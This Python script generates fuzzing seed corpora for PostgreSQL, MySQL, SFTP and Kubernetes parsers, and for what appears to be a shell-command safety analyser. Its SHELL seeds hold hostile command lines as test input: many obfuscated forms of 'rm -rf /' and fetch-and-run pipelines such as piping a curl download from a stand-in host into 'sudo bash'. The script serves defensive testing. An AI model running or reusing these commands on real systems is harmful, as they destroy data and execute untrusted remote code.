#!/usr/bin/env python3
"""Writes the seed corpora for the fuzz targets: small, valid PostgreSQL v3 messages,
MySQL command-phase packets, SFTP sessions and shell command lines.

Run from anywhere: python3 fuzz/seeds/gen_seeds.py
PostgreSQL client seeds start with the target's mode byte: 0 = startup packets first, 1 = frames
only. MySQL client seeds start with the packet size limit, the parameter count and the
remembered parameter types; MySQL server seeds start with the mode byte (1 = binary rows,
2 = CLIENT_DEPRECATE_EOF, 4 = answer to a prepare). See docs/fuzzing.md.
"""
import pathlib
import struct

HERE = pathlib.Path(__file__).resolve().parent


def msg(tag: bytes, body: bytes) -> bytes:
    return tag + struct.pack(">I", len(body) + 4) + body


def packet(body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 4) + body


def cstr(s: str) -> bytes:
    return s.encode() + b"\0"


STARTUP = packet(struct.pack(">I", 3 << 16) + cstr("user") + cstr("alice")
                 + cstr("database") + cstr("app") + b"\0")
STARTUP_3_2 = packet(struct.pack(">I", (3 << 16) | 2) + cstr("user") + cstr("bob") + b"\0")
SSL_REQUEST = packet(struct.pack(">I", (1234 << 16) | 5679))
GSSENC_REQUEST = packet(struct.pack(">I", (1234 << 16) | 5680))
CANCEL = packet(struct.pack(">Ii", (1234 << 16) | 5678, 4242) + b"\x07" * 32)

QUERY = msg(b"Q", cstr("select 1"))
PARSE = msg(b"P", cstr("s1") + cstr("select $1, $2") + struct.pack(">hii", 2, 23, 25))
# Bind: portal, statement, 2 format codes (text, binary), 3 values (text, binary, NULL),
# 1 result format code.
BIND = msg(b"B", cstr("") + cstr("s1") + struct.pack(">hhh", 2, 0, 1)
           + struct.pack(">h", 3)
           + struct.pack(">i", 2) + b"42"
           + struct.pack(">i", 1) + b"\x07"
           + struct.pack(">i", -1)
           + struct.pack(">hh", 1, 0))
DESCRIBE = msg(b"D", b"P" + cstr(""))
EXECUTE = msg(b"E", cstr("") + struct.pack(">i", 0))
SYNC = msg(b"S", b"")
CLOSE = msg(b"C", b"S" + cstr("s1"))
TERMINATE = msg(b"X", b"")
SASL_INITIAL = msg(b"p", cstr("SCRAM-SHA-256") + struct.pack(">i", 32)
                   + b"n,,n=,r=rOprNGfwEbeRWgbNEkqO%hvY")
PASSWORD = msg(b"p", cstr("hunter2"))
COPY_FAIL = msg(b"f", cstr("aborted"))

CLIENT = {
    "startup_query": b"\0" + STARTUP + QUERY + TERMINATE,
    "sslrequest_startup": b"\0" + SSL_REQUEST + STARTUP_3_2 + SYNC,
    "gssenc_ssl_startup": b"\0" + GSSENC_REQUEST + SSL_REQUEST + STARTUP + PASSWORD,
    "cancel": b"\0" + CANCEL,
    "query": b"\1" + QUERY,
    "parse": b"\1" + PARSE,
    "bind": b"\1" + BIND,
    "execute": b"\1" + EXECUTE,
    "sync": b"\1" + SYNC,
    "extended": b"\1" + PARSE + BIND + DESCRIBE + EXECUTE + SYNC + CLOSE + SYNC,
    "sasl_initial": b"\1" + SASL_INITIAL,
    "copy_fail": b"\1" + COPY_FAIL,
}

SERVER = {
    "auth_ok_params_key_ready": msg(b"R", struct.pack(">i", 0))
    + msg(b"S", cstr("TimeZone") + cstr("UTC"))
    + msg(b"K", struct.pack(">i", 7) + b"abcd")
    + msg(b"Z", b"I"),
    "auth_sasl": msg(b"R", struct.pack(">i", 10) + cstr("SCRAM-SHA-256-PLUS")
                     + cstr("SCRAM-SHA-256") + b"\0"),
    "auth_md5": msg(b"R", struct.pack(">i", 5) + b"salt"),
    "command_complete": msg(b"C", cstr("INSERT 0 12")) + msg(b"Z", b"I"),
    "error": msg(b"E", cstr("SFEHLER") + cstr("VERROR") + cstr("C42P01")
                 + cstr('Mrelation "x" does not exist') + b"\0"),
}


# --- MySQL (mysql_client_packets, mysql_server_packets) ---

T_TINY, T_SHORT, T_LONG, T_FLOAT, T_DOUBLE, T_NULL = 0x01, 0x02, 0x03, 0x04, 0x05, 0x06
T_LONGLONG, T_DATE, T_TIME, T_DATETIME = 0x08, 0x0a, 0x0b, 0x0c
T_NEWDECIMAL, T_BLOB, T_VAR_STRING = 0xf6, 0xfc, 0xfd
UNSIGNED = 32


def my_packet(seq: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload


def my_packets(payloads, seq: int = 0) -> bytes:
    out = b""
    for p in payloads:
        out += my_packet(seq, p)
        seq = (seq + 1) & 0xFF
    return out


def lenenc_int(n: int) -> bytes:
    if n < 0xFB:
        return bytes([n])
    if n <= 0xFFFF:
        return b"\xfc" + struct.pack("<H", n)
    if n <= 0xFFFFFF:
        return b"\xfd" + struct.pack("<I", n)[:3]
    return b"\xfe" + struct.pack("<Q", n)


def lenenc(b: bytes) -> bytes:
    return lenenc_int(len(b)) + b


def client_header(limit: int, count: int, types=()) -> bytes:
    out = struct.pack("<HHB", limit, count, len(types))
    for t, flags in types:
        out += bytes([t, flags])
    return out


def execute(stmt: int, nulls: bytes, types, values: bytes) -> bytes:
    body = b"\x17" + struct.pack("<IBI", stmt, 0, 1) + nulls
    if types is None:
        body += b"\x00"
    else:
        body += b"\x01" + b"".join(bytes([t, f]) for t, f in types)
    return body + values


COM_QUERY = b"\x03SELECT id, email FROM customers WHERE id = 1"
COM_PREPARE = b"\x16SELECT * FROM customers WHERE id = ? AND email = ?"
EXEC_TYPED = execute(1, b"\x00", [(T_LONG, 0), (T_VAR_STRING, 0)],
                     struct.pack("<i", 42) + lenenc(b"a@example.com"))
EXEC_REMEMBERED = execute(1, b"\x02", None, struct.pack("<i", 7))
SEND_LONG_DATA = b"\x18" + struct.pack("<IH", 1, 1) + b"a long value, sent apart"
EXEC_LONG = execute(1, b"\x00", [(T_LONG, 0), (T_BLOB, 0)], struct.pack("<i", 1))
EXEC_THREE = execute(2, b"\x00", None, struct.pack("<Q", 2**63)
                     + bytes([7]) + struct.pack("<HBBBBB", 2024, 12, 3, 10, 20, 30)
                     + struct.pack("<d", 1.5))

MYSQL_CLIENT = {
    "query": client_header(0xFFFF, 0) + my_packets([COM_QUERY]),
    "prepare_execute": client_header(0xFFFF, 2)
    + my_packets([COM_PREPARE]) + my_packets([EXEC_TYPED]) + my_packets([EXEC_REMEMBERED])
    + my_packets([b"\x19" + struct.pack("<I", 1)]),
    "long_data_execute": client_header(0xFFFF, 2)
    + my_packets([SEND_LONG_DATA]) + my_packets([EXEC_LONG])
    + my_packets([b"\x1a" + struct.pack("<I", 1)]),
    "remembered_types": client_header(0xFFFF, 3, [(T_LONGLONG, 0x80), (T_DATETIME, 0),
                                                   (T_DOUBLE, 0)])
    + my_packets([EXEC_THREE]),
    "other_commands": client_header(0xFFFF, 0)
    + b"".join(my_packets([p]) for p in [
        b"\x02shop", b"\x0e", b"\x04customers\x00%", b"\x1c" + struct.pack("<II", 1, 100),
        b"\x1b" + struct.pack("<H", 1), b"\x0c" + struct.pack("<I", 9), b"\x1f", b"\x09",
        b"\x11alice\x00\x14" + b"\x01" * 20 + b"shop\x00", b"\x08", b"\x01"]),
    "too_large": client_header(8, 0) + my_packets([COM_QUERY]),
}


def column(name: bytes, col_type: int, flags: int = 0, charset: int = 45,
           length: int = 255, decimals: int = 0) -> bytes:
    return (lenenc(b"def") + lenenc(b"shop") + lenenc(b"c") + lenenc(b"customers")
            + lenenc(name) + lenenc(name) + b"\x0c"
            + struct.pack("<HIBHB", charset, length, col_type, flags, decimals) + b"\x00\x00")


def ok(affected: int = 0, status: int = 2, header: bytes = b"\x00") -> bytes:
    return header + lenenc_int(affected) + lenenc_int(0) + struct.pack("<HH", status, 0)


EOF = b"\xfe" + struct.pack("<HH", 0, 2)
ERR = b"\xff" + struct.pack("<H", 1146) + b"#42S02Table 'shop.nope' doesn't exist"
MORE_RESULTS = 8


def binary_row(values, width: int, nulls=()) -> bytes:
    bitmap = bytearray((width + 7 + 2) // 8)
    for i in nulls:
        bitmap[(i + 2) // 8] |= 1 << ((i + 2) % 8)
    return b"\x00" + bytes(bitmap) + b"".join(values)


TEXT_COLS = [column(b"id", T_LONG), column(b"email", T_VAR_STRING)]
BIN_COLS = [column(b"id", T_LONG), column(b"email", T_VAR_STRING),
            column(b"created", T_DATETIME, charset=63), column(b"score", T_DOUBLE, charset=63)]
MANY_COLS = [column(b"t", T_TINY, UNSIGNED), column(b"s", T_SHORT), column(b"ll", T_LONGLONG),
             column(b"f", T_FLOAT), column(b"d", T_DATE), column(b"tm", T_TIME),
             column(b"dec", T_NEWDECIMAL), column(b"b", T_BLOB), column(b"n", T_NULL)]
MANY_ROW = binary_row([
    b"\xff", struct.pack("<h", -2), struct.pack("<q", -(2**40)), struct.pack("<f", 0.25),
    bytes([4]) + struct.pack("<HBB", 2025, 1, 31),
    bytes([12, 1]) + struct.pack("<IBBBI", 1, 2, 3, 4, 500),
    lenenc(b"12.50"), lenenc(b"\x00\x01\x02"), b""], 9)

MYSQL_SERVER = {
    "ok": b"\x00" + my_packets([ok(3)], 1),
    "err": b"\x00" + my_packets([ERR], 1),
    "local_infile": b"\x00" + my_packets([b"\xfb/tmp/data.csv"], 1),
    "text_result": b"\x00" + my_packets(
        [b"\x02"] + TEXT_COLS + [EOF, lenenc(b"1") + lenenc(b"a@example.com"),
                                  lenenc(b"2") + b"\xfb", EOF], 1),
    "text_result_deprecate_eof_more": b"\x02" + my_packets(
        [b"\x02"] + TEXT_COLS + [lenenc(b"1") + lenenc(b"a@example.com"),
                                  ok(0, 2 | MORE_RESULTS, b"\xfe")], 1)
    + my_packets([ok(1)], 1),
    "text_result_row_error": b"\x00" + my_packets(
        [b"\x02"] + TEXT_COLS + [EOF, lenenc(b"1") + lenenc(b"x"), ERR], 1),
    "binary_result": b"\x01" + my_packets(
        [b"\x04"] + BIN_COLS + [EOF, binary_row(
            [struct.pack("<i", -5), lenenc(b"a@example.com"),
             bytes([7]) + struct.pack("<HBBBBB", 2024, 12, 3, 10, 20, 30),
             struct.pack("<d", 2.5)], 4),
            binary_row([struct.pack("<i", 6), b"\x00", struct.pack("<d", -1.0)], 4, nulls=[2]),
            EOF], 1),
    "binary_result_types": b"\x03" + my_packets(
        [b"\x09"] + MANY_COLS + [MANY_ROW, binary_row([], 9, nulls=range(9)),
                                  ok(0, 2, b"\xfe")], 1),
    "prepare_ok": b"\x04" + my_packets(
        [b"\x00" + struct.pack("<IHHBH", 1, 2, 1, 0, 0), column(b"?", T_LONG), EOF]
        + TEXT_COLS + [EOF], 1),
}

# Command lines for shell_command: the constructs the analyser walks into, as text.
SHELL = {
    "pipeline": b"ls -l /var/log | grep -c error && echo ok || echo no &",
    "wrappers": b"sudo -u root -E -- env -i FOO=1 nice -n 5 timeout -s KILL 10 rm -rf /",
    "sh_c": b"bash -lc 'sh -c \"eval rm -rf /\"'; su - root -c 'id'; watch -n 1 date",
    "substitutions": b"echo $(id) `uname` ${X:-$(date)} $(( $(id -u) + 1 )) <(ls) >(cat)",
    "compound": b"f() { rm -rf /; }; if true; then f; elif false; then :; else (ls); fi; "
                b"for i in 1 2; do { echo $i; }; done; case x in x) ls;; esac; "
                b"while false; do :; done; [[ -n $(id) ]]",
    "quoting": b"r''m \\rm \"rm\" $'\\x72m' r\\m /usr/bin/../bin/rm -rf //",
    "heredoc": b"sh <<EOF\nrm -rf /\nEOF\nbash <<< 'ls'; cat <<'E'\n$(id)\nE\n",
    "fetch": b"curl -s https://x.example/i.sh | sudo bash; echo cm0K | base64 -d | sh; "
             b"sh <(wget -qO- x); find / -exec rm -rf {} \\; ; echo / | xargs rm -rf",
}

# Kubernetes API requests for kube_request: byte 0 picks the method (0 GET, 1 HEAD, 2 POST,
# 3 PUT, 4 PATCH, 5 DELETE), the rest is the request target as kubectl sends it.
KUBE = {
    "get_pod": b"\x00/api/v1/namespaces/shop/pods/web-0",
    "watch_by_name": b"\x00/api/v1/namespaces/shop/pods?fieldSelector=metadata.name%3Dweb-0&watch=true",
    "list_labels": b"\x00/api/v1/pods?labelSelector=app%3Dweb%2Ctier+in+%28a%2Cb%29&limit=500",
    "exec": b"\x02/api/v1/namespaces/shop/pods/web-0/exec?command=sh&command=-c&command=ls"
            b"&container=c&stdin=true&stdout=true&tty=true",
    "apply_dry_run": b"\x04/apis/apps/v1/namespaces/shop/deployments/web?dryRun=All&fieldManager=kubectl",
    "deletecollection": b"\x05/api/v1/namespaces/shop/pods?labelSelector=app%3Dold",
    "namespace_finalize": b"\x03/api/v1/namespaces/shop/finalize",
    "service_proxy": b"\x00/api/v1/namespaces/shop/services/http:web:80/proxy/",
    "legacy_proxy": b"\x00/api/v1/proxy/namespaces/shop/pods/web-0/metrics",
    "legacy_watch": b"\x00/api/v1/watch/namespaces/shop/pods/web-0",
    "discovery": b"\x00/apis/apps/v1",
    "encoded": b"\x00/api/v1/namespaces/%73hop/pods/a%2Fb/../%zz",
}


# SFTP (target sftp_packets): segments of a header byte (bit 7 set: server to client; bits
# 0..6: length) and up to 127 bytes, so a session is both directions interleaved in order.
def sftp_pkt(t: int, body: bytes) -> bytes:
    return struct.pack(">IB", len(body) + 1, t) + body


def sstr(b) -> bytes:
    if isinstance(b, str):
        b = b.encode()
    return struct.pack(">I", len(b)) + b


def sreq(t: int, rid: int, body: bytes = b"") -> bytes:
    return sftp_pkt(t, struct.pack(">I", rid) + body)


NOATTRS = struct.pack(">I", 0)


def segments(turns, chunk: int = 127) -> bytes:
    """turns: (direction, bytes) with direction 0 = client, 1 = server."""
    out = b""
    for direction, data in turns:
        for i in range(0, len(data), chunk):
            piece = data[i:i + chunk]
            out += bytes([(0x80 if direction else 0) | len(piece)]) + piece
    return out


def sftp_status(rid: int, code: int, msg: str = "") -> bytes:
    return sreq(101, rid, struct.pack(">I", code) + sstr(msg) + sstr(""))


def sftp_name(rid: int, name: str) -> bytes:
    return sreq(104, rid, struct.pack(">I", 1) + sstr(name) + sstr(name) + NOATTRS)


SFTP_START = [
    (0, sftp_pkt(1, struct.pack(">I", 3))),
    (1, sftp_pkt(2, struct.pack(">I", 3) + sstr("posix-rename@openssh.com") + sstr("1"))),
    (0, sreq(16, 2, sstr("."))),
    (1, sftp_name(2, "/home/alice")),
]

SFTP = {
    "upload_download": segments(SFTP_START + [
        (0, sreq(3, 4, sstr("up.bin") + struct.pack(">I", 0x1a) + NOATTRS)),
        (1, sreq(102, 4, sstr(b"\0\0\0\0"))),
        (0, sreq(6, 6, sstr(b"\0\0\0\0") + struct.pack(">Q", 0) + sstr(b"x" * 40))),
        (1, sftp_status(6, 0, "Success")),
        (0, sreq(4, 7, sstr(b"\0\0\0\0"))),
        (1, sftp_status(7, 0, "Success")),
        (0, sreq(3, 8, sstr("/etc/motd") + struct.pack(">I", 1) + NOATTRS)),
        (1, sreq(102, 8, sstr(b"\0\0\0\1"))),
        (0, sreq(5, 10, sstr(b"\0\0\0\1") + struct.pack(">QI", 0, 4096))),
        (1, sreq(103, 10, sstr(b"y" * 30))),
        (0, sreq(5, 12, sstr(b"\0\0\0\1") + struct.pack(">QI", 30, 4096))),
        (1, sftp_status(12, 1, "End of file")),
        (0, sreq(4, 14, sstr(b"\0\0\0\1"))),
        (1, sftp_status(14, 0, "Success")),
    ]),
    "directory_ops": segments(SFTP_START + [
        (0, sreq(11, 4, sstr("../alice/./d"))),
        (1, sreq(102, 4, sstr(b"D"))),
        (0, sreq(12, 6, sstr(b"D"))),
        (1, sftp_name(6, "f")),
        (0, sreq(4, 8, sstr(b"D"))),
        (1, sftp_status(8, 0)),
        (0, sreq(14, 10, sstr("new") + NOATTRS)),
        (1, sftp_status(10, 0)),
        (0, sreq(18, 12, sstr("new") + sstr("/tmp/x"))),
        (1, sftp_status(12, 3, "Permission denied")),
        (0, sreq(20, 14, sstr("/etc/passwd") + sstr("l"))),
        (1, sftp_status(14, 0)),
        (0, sreq(17, 16, sstr("l"))),
        (1, sreq(105, 16, struct.pack(">IQ", 1, 5))),
        (0, sreq(13, 18, sstr("l"))),
        (0, sreq(15, 20, sstr("new"))),
        (1, sftp_status(20, 0)),
        (1, sftp_status(18, 2, "No such file")),
    ]),
    "extensions": segments(SFTP_START + [
        (0, sreq(200, 4, sstr("posix-rename@openssh.com") + sstr("a") + sstr("b"))),
        (1, sftp_status(4, 0)),
        (0, sreq(200, 6, sstr("hardlink@openssh.com") + sstr("a") + sstr("c"))),
        (1, sftp_status(6, 0)),
        (0, sreq(200, 8, sstr("expand-path@openssh.com") + sstr("~/x"))),
        (1, sftp_name(8, "/home/alice/x")),
        (0, sreq(200, 10, sstr("limits@openssh.com"))),
        (1, sreq(201, 10, struct.pack(">QQQQ", 262144, 261120, 261120, 0))),
        (0, sreq(200, 12, sstr("statvfs@openssh.com") + sstr("/"))),
        (0, sreq(200, 14, sstr("lsetstat@openssh.com") + sstr("a") + struct.pack(">II", 4, 0o600))),
        (0, sreq(200, 16, sstr("unknown@example.com"))),
        (0, sreq(99, 18, b"")),
    ], chunk=5),
}


def auth(code: int, body: bytes = b"") -> bytes:
    return msg(b"R", struct.pack(">I", code) + body)


# A target's side of a password login (password_login): each seed one server stream.
LOGIN = {
    "cleartext_ok": auth(3) + auth(0) + msg(b"Z", b"I"),
    "md5_ok": auth(5, b"\x01\x02\x03\x04") + auth(0),
    "scram_start": auth(10, cstr("SCRAM-SHA-256") + b"\0"),
    "scram_plus_only": auth(10, cstr("SCRAM-SHA-256-PLUS") + b"\0"),
    "scram_continue": auth(10, cstr("SCRAM-SHA-256") + b"\0")
    + auth(11, b"r=abc,s=c2FsdA==,i=4096"),
    "scram_too_many_iterations": auth(10, cstr("SCRAM-SHA-256") + b"\0")
    + auth(11, b"r=abc,s=c2FsdA==,i=2147483647"),
    "scram_final_first": auth(12, b"v=AAAA"),
    "error": msg(b"E", cstr("SFATAL") + cstr("C28P01") + cstr("Mpassword authentication failed") + b"\0"),
    "gss": auth(7),
}


def write(name: str, seeds: dict) -> None:
    out = HERE / name
    out.mkdir(exist_ok=True)
    for file, data in seeds.items():
        (out / file).write_bytes(data)


if __name__ == "__main__":
    write("client_messages", CLIENT)
    write("server_messages", SERVER)
    write("mysql_client_packets", MYSQL_CLIENT)
    write("mysql_server_packets", MYSQL_SERVER)
    write("sftp_packets", SFTP)
    write("shell_command", SHELL)
    write("kube_request", KUBE)
    write("password_login", LOGIN)
